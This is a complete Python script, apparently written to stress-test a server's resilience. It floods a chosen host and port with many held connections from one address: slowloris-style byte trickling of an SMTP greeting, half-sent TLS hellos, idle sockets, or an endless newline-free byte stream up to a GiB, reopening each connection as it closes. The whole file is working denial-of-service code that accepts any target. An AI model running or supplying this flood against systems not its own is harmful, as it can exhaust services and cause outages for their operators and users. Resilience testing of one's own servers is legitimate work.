#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""
Connections that do no good, many from one address; it ends by itself.

usage: attack.py HOST PORT COUNT SECONDS KIND

KIND: slow      one byte of a command every ten seconds
      half      the first bytes of a TLS hello, then nothing
      idle      nothing at all
      endless   bytes without an end of line, as fast as they are taken, a GiB in all
Each that is closed is opened again half a second later. At the end a line: what was opened, closed, sent.
"""
import asyncio
import itertools
import sys
import time

HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
SLOW = b"EHLO a-name-that-takes-its-time.example"
GIB = 1 << 30
opened = closed = sent = 0


async def hold(reader, writer, kind, until):
    global sent
    slow = itertools.cycle(SLOW)
    if kind == "half":
        writer.write(HELLO)
    while time.monotonic() < until and sent < GIB:
        if kind == "endless":
            writer.write(b"x" * 65536)
            await writer.drain()
            sent += 65536
            await asyncio.sleep(0)
            continue
        if kind == "slow":
            writer.write(bytes([next(slow)]))
            await writer.drain()
        try:
            if not await asyncio.wait_for(reader.read(4096), min(10, max(0.1, until - time.monotonic()))):
                return
        except asyncio.TimeoutError:
            pass


async def one(host, port, kind, until, number):
    global opened, closed
    await asyncio.sleep(number % 1000 / 500)  # not all at once: the backlog is not what is tested
    while time.monotonic() < until and sent < GIB:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
        except (OSError, asyncio.TimeoutError):
            await asyncio.sleep(0.5)
            continue
        opened += 1
        try:
            await hold(reader, writer, kind, until)
        except OSError:
            pass
        writer.transport.abort()
        closed += 1
        await asyncio.sleep(0.5)


async def main(host, port, count, seconds, kind):
    until = time.monotonic() + float(seconds)
    await asyncio.gather(*(one(host, int(port), kind, until, n) for n in range(int(count))))
    print(f"opened {opened}, closed {closed}, sent {sent}", flush=True)


asyncio.run(main(*sys.argv[1:]))
